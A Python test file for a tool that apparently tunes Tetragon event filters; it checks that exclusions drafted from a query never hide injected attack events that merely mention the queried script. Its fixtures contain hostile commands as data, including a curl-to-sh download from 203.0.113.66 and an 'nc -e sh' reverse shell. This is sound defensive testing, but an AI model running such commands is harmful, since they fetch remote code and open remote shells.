"""A draft from a query learns from what the query means, and never from what only mentions it."""

from __future__ import annotations

import random
from collections.abc import Sequence
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tetratui.core.query import parse
from tetratui.core.table import EventTable, build_table, load
from tetratui.core.tetragon import FilterList, build_filter
from tetratui.core.tuning.cover.cover_selection import select_cover
from tetratui.core.tuning.draft_request import DraftRequest, draft_events
from tetratui.core.tuning.learning.learnable_events import INCLUDE, Lesson, learn_from_query, names_path
from tetratui.core.tuning.learning.suspicious_commands import Suspicion
from tetratui.core.tuning.tuning_context import TuningContext

CAPTURES = Path(__file__).parents[3] / "data" / "captures"
S = "/usr/share/socfortress/scripts/open-audit.sh"
QUERIES = (
    "args:open-audit.sh or pargs:open-audit.sh",
    f"args:{S} or pargs:{S}",
    "open-audit.sh",
    "cmd:open-audit or pargs:open-audit",
    r"args~open-audit\.sh or pargs~open-audit\.sh",
)


def learned(table: EventTable, query: str, *include: str) -> Lesson:
    return learn_from_query(table, TuningContext(table, attack_samples=()).columns, parse(query), include)


def reasons(found: Lesson) -> set[str]:
    return {word for group in found.left_out for word in group.reasons.words}


def test_a_draft_learns_from_the_script_and_what_it_starts_and_not_from_mentions() -> None:
    table = load([CAPTURES / "attack-in-query.jsonl"])
    found = learned(table, "args:inventory.sh or pargs:inventory.sh")
    assert (int(found.selected.sum()), np.flatnonzero(found.taught).tolist()) == (6, [0, 1])
    assert sum(group.events for group in found.left_out) == 4
    assert reasons(found) == {"mention", "shell-code", "writable", "attack-sample"}
    assert "curl -s http://203.0.113.66/x" in " ".join(line for group in found.left_out for line in group.examples)
    for scope in ("exact", "command", "template", "caller", "subtree"):
        context = TuningContext(table)
        drafts = draft_events(
            context, np.flatnonzero(found.taught), DraftRequest(scope, "a reason"), found.protected
        ).drafts
        hidden = context.matcher.any([one for draft in drafts for one in draft.exclusions])
        assert np.flatnonzero(hidden).tolist() == [0, 1], scope


def test_only_what_include_names_is_included() -> None:
    table = load([CAPTURES / "attack-in-query.jsonl"])
    query = "args:inventory.sh or pargs:inventory.sh"
    assert int(learned(table, query, "writable", "mention").taught.sum()) == 3
    assert int(learned(table, query, "mention").taught.sum()) == 2
    whole = learned(table, query, "all")
    assert (int(whole.taught.sum()), whole.left_out, whole.remedy) == (6, (), "")
    assert {reason.word for reason in Suspicion} | {"all"} == set(INCLUDE)


@pytest.mark.parametrize(
    ("text", "path", "named"),
    [
        ("inventory.sh", "/opt/ops/inventory.sh", True),
        ("inventory", "/opt/ops/inventory.sh", True),
        ("ops/inventory.sh", "/opt/ops/inventory.sh", True),
        ("/inventory.sh", "/opt/ops/inventory.sh", True),
        ("/opt/ops/", "/opt/ops/inventory.sh", True),
        ("/opt/ops/inventory.sh", "/opt/ops/inventory.sh", True),
        ("/opt/ops/inventory.sh", "/opt/x/opt/ops/inventory.sh", False),
        ("inventory.sh", "/opt/ops/evil-inventory.sh", False),
        ("inventory.sh", "/opt/ops/inventory.sh.bak", False),
        ("", "/opt/ops/inventory.sh", False),
    ],
)
def test_a_text_names_a_path_from_the_beginning_of_a_name_on(text: str, path: str, named: bool) -> None:
    assert names_path(text, path) is named


def test_a_whole_text_a_negation_and_presence_are_no_mention(lines: Any) -> None:
    table = build_table(
        [lines.event(binary="/usr/bin/dpkg", arguments="-s adduser"), lines.event(binary="/usr/bin/cut")]
    )
    for query in ('args="-s adduser"', "args:*", "bin:dpkg -args:x", "bin=/usr/bin/dpkg"):
        assert learned(table, query).left_out == (), query
    assert reasons(learned(table, "args:adduser")) == {"mention"}


@cache
def real_lines() -> tuple[bytes, ...]:
    return tuple(line for row in [load([CAPTURES / "six-ways.log.gz"])] for line in map(row.line, range(len(row))))


ATTACKER = ("/usr/sbin/php-fpm8.2", "--nodaemonize")


@st.composite
def attacks_naming_the_script(draw: st.DrawFn) -> list[tuple[str, str, str, str]]:
    """Make commands (binary and arguments, those of the parent), each naming the script as an attacker may."""
    code = draw(
        st.sampled_from(["id", "curl -s http://203.0.113.66/x | sh", "cp /bin/true /tmp/.a/x", "nc -e sh 1.2.3.4 5"])
    )
    shell = draw(st.sampled_from(["/usr/bin/bash", "/bin/sh", "/usr/bin/dash", "/tmp/bash"]))
    parent = draw(st.sampled_from([ATTACKER, ("/usr/bin/bash", "/opt/ops/attack.sh"), ("/usr/bin/bash", "")]))
    where = draw(st.sampled_from([f"{code} # {S}", f"{S}; {code}", f": {S} && {code}"]))
    flag = draw(st.sampled_from(["-c", "-ec", "-x -c", "-lc"]))
    folder = draw(st.sampled_from(["/tmp/.a", "/home/eve", "/dev/shm", "/var/tmp"]))
    mention = [
        (shell, f'{flag} "{where}"', *parent),
        ("/usr/bin/cp", f"{S} {folder}/open-audit.sh", *parent),
        ("/usr/bin/vim", S, *parent),
        ("/usr/bin/bash", f"{folder}/open-audit.sh", *parent),
        (f"{folder}/open-audit.sh", f"{folder}/open-audit.sh", *parent),
        ("/usr/bin/bash", f"/opt/evil.sh {S}", *parent),
        ("/usr/bin/python3", f'-c "import os" {S}', *parent),
        ("/usr/bin/bash", f"--rcfile {folder}/rc {S}", *parent),
    ]
    chosen = draw(st.lists(st.sampled_from(mention), min_size=1, max_size=4))
    started = [
        ("/usr/bin/hostname", ""),
        ("/usr/bin/curl", "-s http://203.0.113.66/x"),
        ("/usr/bin/sh", ""),
        ("/usr/bin/id", "-u"),
    ]
    children = [
        (*draw(st.sampled_from(started)), binary, arguments)
        for binary, arguments, _, _ in chosen
        if draw(st.booleans())
    ]
    return [*chosen, *children]


def lines_of(commands: Sequence[tuple[str, str, str, str]], key: str) -> list[bytes]:
    lines = []
    for pid, (binary, arguments, parent, parent_arguments) in enumerate(commands, 60_000):
        process = {"exec_id": "", "pid": pid, "uid": 33, "cwd": "/", "binary": binary, "arguments": arguments}
        body = {"process": process, "parent": {"pid": 1, "binary": parent, "arguments": parent_arguments}}
        lines.append(orjson.dumps({key: body, "node_name": "server01", "time": "2026-11-24T00:00:00.5Z"}))
    return lines


@settings(max_examples=40, deadline=None)
@given(
    attacks_naming_the_script(),
    st.sampled_from(QUERIES),
    st.sampled_from([None, "exact", "command", "template", "caller", "subtree"]),
    st.sampled_from(["process_exec", "process_exit", "process_kprobe"]),
    st.integers(0, 2**16),
)
def test_no_draft_from_a_query_hides_an_injected_event(
    attack: list[tuple[str, str, str, str]], query: str, scope: str | None, key: str, seed: int
) -> None:
    injected = lines_of(attack, key)
    chance = random.Random(seed)
    noise = list(real_lines()[: chance.randrange(400, 900)])
    rows = sorted(chance.sample(range(len(noise)), len(injected)))
    for row, line in zip(rows, injected, strict=True):
        noise.insert(row, line)
    table = build_table(noise)
    marked = np.flatnonzero(np.isin(noise, injected))
    context = TuningContext(table)
    found = learn_from_query(table, context.columns, parse(query))
    drafts = draft_events(
        context, np.flatnonzero(found.taught), DraftRequest(scope, "a typed reason"), found.protected
    ).drafts
    filters = FilterList.of([build_filter(one) for draft in drafts for one in draft.exclusions])
    hidden = filters.first_matches(table) >= 0
    assert not hidden[marked].any(), [noise[row] for row in marked if hidden[row]]
    cover = select_cover(
        context,
        np.flatnonzero(found.taught),
        scope if scope in {"caller", "subtree"} else "subtree",
        10_000,
        found.protected,
    )
    assert not cover.mask[marked].any()
    selected = found.selected[marked]
    assert sum(group.events for group in found.left_out) >= int(selected.sum())


def test_a_draft_still_learns_from_the_script_among_attacks() -> None:
    noise = list(real_lines())
    table = build_table([*noise, *lines_of([("/usr/bin/cp", f"{S} /tmp/.a/x", *ATTACKER)], "process_exec")])
    found = learned(table, QUERIES[0])
    assert int(found.taught.sum()) > 0.98 * int(found.selected.sum())


def test_templates_are_not_learned_from_what_is_left_out(lines: Any) -> None:
    usual = [
        lines.event(pid=n, binary="/bin/x", arguments=f"-n {n}", parent={"binary": S, "arguments": S}) for n in (1, 2)
    ]
    hostile = [
        lines.event(pid=10 + n, binary="/bin/x", arguments=f"-n {word}", parent={"binary": "/tmp/x", "arguments": S})
        for n, word in enumerate(["a", "b", "c", "d", "e", "f"])
    ]
    table = build_table([*usual, *hostile])
    found = learned(table, f"pargs:{S}")
    context = TuningContext(table)
    (draft,) = draft_events(context, np.flatnonzero(found.taught), DraftRequest("template"), found.protected).drafts
    later = build_table([lines.event(binary="/bin/x", arguments="-n z", parent={"binary": "/tmp/x"})])
    assert not TuningContext(later).matcher.any(draft.exclusions).any()
